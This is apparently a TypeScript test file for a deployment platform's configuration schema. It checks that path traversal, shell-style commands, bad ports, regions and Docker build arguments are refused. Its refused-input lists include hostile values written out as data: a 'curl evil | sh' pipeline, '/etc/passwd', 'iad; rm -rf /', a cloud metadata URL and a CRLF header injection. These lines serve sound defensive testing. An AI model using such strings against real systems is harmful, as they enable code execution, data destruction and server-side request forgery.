import {
  effectiveConfig,
  projectConfigSchema,
  projectSettingsJsonSchema,
  settingGroups,
} from '@taxiway/domain'
import t from 'tap'

const accepts = (config: object) => projectConfigSchema.safeParse(config).success

t.test('an empty configuration has defaults for all settings', async t => {
  t.match(projectConfigSchema.parse({}), {
    rootDirectory: '',
    port: 8080,
    region: 'iad',
    size: 'shared-cpu-1x',
    memoryMb: 256,
    pullRequests: true,
    trackedBranches: [],
    drafts: 'keep',
    bots: 'ignore',
    buildTimeoutSeconds: 900,
  })
})

const outside = [
  '..',
  '../x',
  'a/../../b',
  'a/..',
  '/etc/passwd',
  '//host/share',
  '..\\x',
  'C:\\windows',
  'a\0b',
  'a\nb',
  'a\x1b[31m',
  'a'.repeat(1025),
]

t.test('no path leads out of the repository', async t => {
  for (const key of ['rootDirectory', 'dockerfilePath', 'outputDirectory']) {
    for (const path of outside)
      t.notOk(accepts({ [key]: path }), `${key}: ${JSON.stringify(path.slice(0, 40))}`)
    for (const path of ['', 'apps/web', '.', 'a..b/c', '.github', '機能', 'with space', "it's"])
      t.ok(accepts({ [key]: path }), `${key}: ${path}`)
  }
})

t.test('a command is a list of words; text for a shell is refused', async t => {
  const keys = ['installCommand', 'buildCommand', 'startCommand']
  const refused = [
    'npm ci && curl evil | sh',
    [],
    [''],
    ['npm', 'run\nbuild'],
    ['npm', 'a\0b'],
    [['npm']],
    [1],
    Array.from({ length: 65 }, () => 'x'),
    ['x'.repeat(1025)],
    null,
  ]
  for (const key of keys) {
    for (const command of refused)
      t.notOk(accepts({ [key]: command }), `${key}: ${JSON.stringify(command)?.slice(0, 40)}`)
    // No shell reads them, so shell syntax does not matter.
    t.ok(accepts({ [key]: ['node', '-e', 'console.log("$(id)"); `id` && true'] }), key)
  }
})

t.test('all other settings have limits, and unknown settings are refused', async t => {
  const refused: object[] = [
    { healthPath: 'health' },
    { healthPath: 'http://169.254.169.254/' },
    { healthPath: '/a b' },
    { healthPath: '/a?x=$(id)' },
    { healthPath: '/a\r\nHost: x' },
    { trackedBranches: ['main\nx'] },
    { trackedBranches: ['main\u200b'] },
    { rootDirectory: 'apps/\u202eweb' },
    { buildCommand: ['npm', 'run', '\u2066build'] },
    { region: 'IAD' },
    { region: 'iad; rm -rf /' },
    { size: 'shared-cpu-3x' },
    { size: 'performance-100x' },
    { port: 0 },
    { port: 65_536 },
    { port: 80.5 },
    { port: '8080' },
    { memoryMb: 300 },
    { memoryMb: 0 },
    { buildTimeoutSeconds: 9 },
    { buildTimeoutSeconds: 3_601 },
    { drafts: 'maybe' },
    { dockerBuildArgs: { BUILDKIT_SYNTAX: 'docker/dockerfile' } },
    { dockerBuildArgs: { '--secret': 'x' } },
    { dockerBuildArgs: { 'A=B': 'x' } },
    { dockerBuildArgs: { '': 'x' } },
    { dockerBuildArgs: { '1': 'x' } },
    { dockerBuildArgs: { A: 'a\nb' } },
    { dockerBuildArgs: { A: 'x'.repeat(1025) } },
    { dockerBuildArgs: { A: 1 } },
    { dockerBuildArgs: Object.fromEntries(Array.from({ length: 51 }, (_, index) => [`A${index}`, ''])) },
    { trackedBranches: [''] },
    { trackedBranches: Array.from({ length: 21 }, (_, index) => `b${index}`) },
    { unknown: true },
    JSON.parse('{"__proto__":{"port":1}}'),
  ]
  for (const config of refused) t.notOk(accepts(config), JSON.stringify(config))
  const accepted: object[] = [
    { healthPath: '/health-z/v1.0/~a%20b' },
    { region: 'fra', size: 'performance-16x', memoryMb: 131_072 },
    { size: 'shared-cpu-8x' },
    { dockerBuildArgs: { VERSION: '1.2', EMPTY: '', buildkit: '--secret id=x', A_1: '$(id) a=b' } },
    { trackedBranches: ['main', 'release/*', '機能'] },
    { port: 1, buildTimeoutSeconds: 3_600, drafts: 'destroy', bots: 'deploy', pullRequests: false },
  ]
  for (const config of accepted) t.ok(accepts(config), JSON.stringify(config))
})

t.test('stored settings count as they are, also those that another release knows or refuses', async t => {
  const stored = {
    config: { ...projectConfigSchema.parse({}), port: 99_999, ofNextRelease: true },
    configured: [],
  }
  t.match(effectiveConfig(stored, { healthPath: '/up' }), { port: 99_999, healthPath: '/up', drafts: 'keep' })
})

t.test('the schema for forms describes every setting, in its group, with what counts without it', async t => {
  const { properties } = projectSettingsJsonSchema() as {
    properties: Record<string, Record<string, unknown>>
  }
  t.same(Object.keys(properties), Object.keys(projectConfigSchema.shape))
  const titles = settingGroups.map(({ title }) => title)
  for (const [name, setting] of Object.entries(properties)) {
    t.match(setting['description'], /^[A-Z`].*\.$/s, `${name}: a sentence`)
    t.ok(titles.includes(String(setting['x-group'])), `${name}: its group`)
    t.ok('default' in setting || 'x-default' in setting, `${name}: its default`)
  }
})
